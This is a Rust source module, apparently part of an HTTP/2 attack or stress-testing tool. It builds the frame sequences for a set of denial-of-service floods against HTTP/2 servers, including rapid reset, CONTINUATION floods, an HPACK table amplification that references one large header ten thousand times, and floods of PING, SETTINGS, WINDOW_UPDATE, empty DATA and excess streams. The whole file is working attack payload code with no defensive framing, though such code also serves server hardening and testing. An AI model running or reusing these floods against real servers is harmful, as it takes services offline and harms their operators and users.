//! Attacks on an HTTP/2 server, each frames that are sent without end.

use std::ops::Range;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, bytes, get,
};

/// One attack: what it begins with, after the preface and the settings, and then round after round.
#[derive(Clone, Debug)]
pub struct Flood {
    /// For people.
    pub name: &'static str,
    /// Frames of a round.
    pub frames: usize,
    begin: fn(&str) -> Vec<u8>,
    next: fn(&str, u32) -> Vec<u8>,
}

impl Flood {
    /// What is sent first to `host`.
    pub fn begin(&self, host: &str) -> Vec<u8> {
        (self.begin)(host)
    }

    /// What is sent to it in these rounds.
    pub fn rounds(&self, host: &str, rounds: Range<usize>) -> Vec<u8> {
        rounds.flat_map(|round| (self.next)(host, round as u32)).collect()
    }
}

fn flood(name: &'static str, begin: fn(&str) -> Vec<u8>, next: fn(&str, u32) -> Vec<u8>) -> Flood {
    Flood { name, frames: 1, begin, next }
}

/// Of an attack that needs no beginning.
fn nothing(_: &str) -> Vec<u8> {
    Vec::new()
}

/// Every attack but those that need more than one connection.
pub fn all() -> Vec<Flood> {
    let more = broken().into_iter().chain(fields()).chain([content(), trickle(), streams()]);
    empty().into_iter().chain(resets()).chain(more).collect()
}

/// Frames that carry nothing.
pub fn empty() -> [Flood; 5] {
    [
        flood("PING", nothing, |_, _| bytes(PING, 0, 0, &[7; 8])),
        flood("SETTINGS", nothing, |_, _| bytes(SETTINGS, 0, 0, &[])),
        flood("WINDOW_UPDATE", nothing, |_, _| bytes(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        flood("PRIORITY", nothing, |_, _| bytes(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        flood("an unknown type", nothing, |_, _| bytes(0x77, 0, 0, b"x")),
    ]
}

/// Streams that end as they begin, by their client's hand or by the server's.
pub fn resets() -> [Flood; 2] {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut floods = [
        flood("rapid reset", nothing, |host, round| {
            [ask(host, round, true), bytes(RST_STREAM, 0, id(round), &CANCEL)].concat()
        }),
        flood("a window beyond all bounds", nothing, |host, round| {
            [ask(host, round, false), bytes(WINDOW_UPDATE, 0, id(round), &[0x7f, 0xff, 0xff, 0xff])].concat()
        }),
    ];
    floods.iter_mut().for_each(|flood| flood.frames = 2);
    floods
}

/// What no stream may do.
pub fn broken() -> [Flood; 4] {
    let content: fn(&str, u32) -> Vec<u8> = |_, _| bytes(DATA, 0, 1, b"x");
    [
        flood("requests that are none", nothing, |_, round| {
            bytes(HEADERS, END_HEADERS | END_STREAM, id(round), &block(&[("X".into(), "y".into())]))
        }),
        flood("a window of zero", nothing, |_, _| bytes(WINDOW_UPDATE, 0, 0, &[0; 4])),
        flood("content on a stream that isn't open", nothing, content),
        flood("content on a stream that has ended", |host| ask(host, 0, true), content),
    ]
}

/// Fields without end.
pub fn fields() -> [Flood; 3] {
    let begun: fn(&str) -> Vec<u8> = |host| bytes(HEADERS, END_STREAM, 1, &block(&get(host, "/")));
    [
        flood("CONTINUATION", begun, |_, _| {
            bytes(CONTINUATION, 0, 1, &block(&[("x".into(), "y".repeat(1000))]))
        }),
        flood("empty CONTINUATION", begun, |_, _| bytes(CONTINUATION, 0, 1, &[])),
        // A large field is put into the table once (RFC 7541 §6.2.1), and named by one byte a thousand times (§6.1).
        flood("fields from the table", |host| repeated(host, 0), |host, round| repeated(host, round + 1)),
    ]
}

fn repeated(host: &str, round: u32) -> Vec<u8> {
    let mut fields = block(&get(host, "/"));
    if round == 0 {
        fields.extend([0x40, 1, b'x', 127, 0x81, 0x1e]);
        fields.extend([b'y'; 127 + 1 + 0x1e * 128]);
    } else {
        fields.extend([0x80 | 62; 10_000]);
    }
    bytes(HEADERS, END_HEADERS | END_STREAM, id(round), &fields)
}

/// Content that is none.
pub fn content() -> Flood {
    flood("empty DATA", |host| ask(host, 0, false), |_, _| bytes(DATA, 0, 1, &[]))
}

/// Content in the smallest pieces.
pub fn trickle() -> Flood {
    flood("DATA of one byte", |host| ask(host, 0, false), |_, _| bytes(DATA, 0, 1, b"x"))
}

/// Streams beyond what is allowed.
pub fn streams() -> Flood {
    flood("streams", nothing, |host, round| ask(host, round + 1000, true))
}

fn id(round: u32) -> u32 {
    (round * 2 + 1) & 0x7fff_ffff
}

/// The fields of a request; `whole`: it has no body.
fn ask(host: &str, round: u32, whole: bool) -> Vec<u8> {
    let end = if whole { END_STREAM } else { 0 };
    bytes(HEADERS, END_HEADERS | end, id(round), &block(&get(host, "/")))
}
